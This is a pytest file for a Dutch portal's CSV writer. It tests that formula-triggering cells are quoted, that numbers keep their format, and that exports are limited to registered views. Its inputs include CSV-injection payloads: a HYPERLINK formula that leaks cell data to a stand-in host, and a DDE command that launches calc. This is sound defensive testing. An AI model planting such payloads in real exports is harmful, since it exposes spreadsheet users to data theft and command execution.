"""The portal's one CSV writer: formula cells neutralised (OWASP), numbers kept numbers."""

import csv
import datetime
import io
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from django.test import RequestFactory
from django.utils.translation import gettext_lazy

from reisbureau import csvexport
from reisbureau.csvexport import EXCEL_NL, RFC4180, cell, csv_export

HYPERLINK = '=HYPERLINK("http://example.org/?d="&A1;"Details")'


@pytest.mark.parametrize("text", [
    HYPERLINK, "=cmd|' /C calc'!A0", "=1+1", "+1+1", "+SUM(A1:A2)", "-1+2", "-cmd", "@SUM(1+1)",
    "\t=1+1", "\tindented", "\r=1+1", "\rcarriage", "=", "+", "-", "@", "\t", "\r",
    "+31 6 12345678", "-5 euro", "--5", "-5e3", "-inf", "-nan",
])
def test_a_text_that_could_start_a_formula_gets_a_quote(text):
    assert cell(text) == "'" + text
    assert cell(text, RFC4180) == "'" + text


def test_every_dangerous_leading_character_is_covered():
    assert set(csvexport.DANGEROUS_LEADING) == {"=", "+", "-", "@", "\t", "\r"}
    for char in csvexport.DANGEROUS_LEADING:
        assert cell(char + "x") == "'" + char + "x"


@pytest.mark.parametrize("text", [
    "gewoon tekst", "Beleidsmedewerker", "a=1", "e-mail", " =1+1", "'=1+1", "", "12", "€ -5",
])
def test_harmless_text_is_written_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize("text", ["-5", "+5", "-1.25", "-1,25", "+31", "0", "-0,5"])
def test_a_text_that_is_just_a_number_stays_a_number(text):
    # OWASP: a cell that a spreadsheet reads as a plain number runs nothing.
    assert cell(text) == text


def test_numbers_are_written_as_numbers_with_a_dutch_decimal_comma():
    assert cell(-5) == "-5"
    assert cell(0) == "0"
    assert cell(12) == "12"
    assert cell(-2.5) == "-2,5"
    assert cell(3.75) == "3,75"
    assert cell(Decimal("-12.50")) == "-12,50"


def test_numbers_keep_the_decimal_point_in_the_machine_dialect():
    assert cell(-5, RFC4180) == "-5"
    assert cell(-2.5, RFC4180) == "-2.5"
    assert cell(Decimal("1234.5"), RFC4180) == "1234.5"


def test_non_finite_numbers_are_text_and_neutralised():
    assert cell(float("-inf")) == "'-inf"
    assert cell(float("nan")) == "nan"
    assert cell(Decimal("-Infinity")) == "'-Infinity"


def test_none_is_an_empty_cell_and_booleans_are_text():
    assert cell(None) == ""
    assert cell(True) == "True"


def test_dates_and_datetimes_are_iso_in_local_time(settings):
    settings.TIME_ZONE = "Europe/Amsterdam"
    assert cell(datetime.date(2026, 11, 28)) == "2026-11-28"
    utc = datetime.datetime(2026, 11, 28, 9, 30, tzinfo=ZoneInfo("UTC"))
    assert cell(utc) == "2026-11-28T10:30:00+01:00"
    assert cell(datetime.datetime(2026, 11, 28, 9, 30)) == "2026-11-28T09:30:00"


def test_lazy_translations_are_text_and_neutralised():
    assert cell(gettext_lazy("Name")) in ("Name", "Naam")
    assert cell(gettext_lazy("=1+1")) == "'=1+1"


def test_write_in_the_dutch_excel_dialect_round_trips():
    out = io.StringIO()
    csvexport.write(out, ["Naam", "Waarde"], [
        [HYPERLINK, -5], ["met; puntkomma\nen \"aanhalingstekens\"", 2.5], [None, "-1+2"]],
        dialect=EXCEL_NL)
    text = out.getvalue()
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows == [["Naam", "Waarde"], ["'" + HYPERLINK, "-5"],
                    ["met; puntkomma\nen \"aanhalingstekens\"", "2,5"], ["", "'-1+2"]]


def test_write_in_the_machine_dialect_has_commas_and_no_bom():
    out = io.StringIO()
    csvexport.write(out, ["name", "n"], [["@SUM(1+1)", 1.5]], dialect=RFC4180)
    assert out.getvalue() == "name,n\r\n'@SUM(1+1),1.5\r\n"


def test_response_only_inside_a_registered_export_view():
    with pytest.raises(RuntimeError, match="csv_export"):
        csvexport.response("x.csv", ["a"], [["=1"]])

    @csv_export(query={"export": "csv"})
    def view(request):
        return csvexport.response("x.csv", ["a"], [["=1"], [-1]])

    try:
        response = view(RequestFactory().get("/"))
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
        assert response.content.decode("utf-8") == "\ufeffa\r\n'=1\r\n-1\r\n"
        assert csvexport.EXPORTS[view].query == {"export": "csv"}
    finally:
        del csvexport.EXPORTS[view]
    with pytest.raises(RuntimeError):  # the flag does not leak out of the view
        csvexport.response("x.csv", ["a"], [])
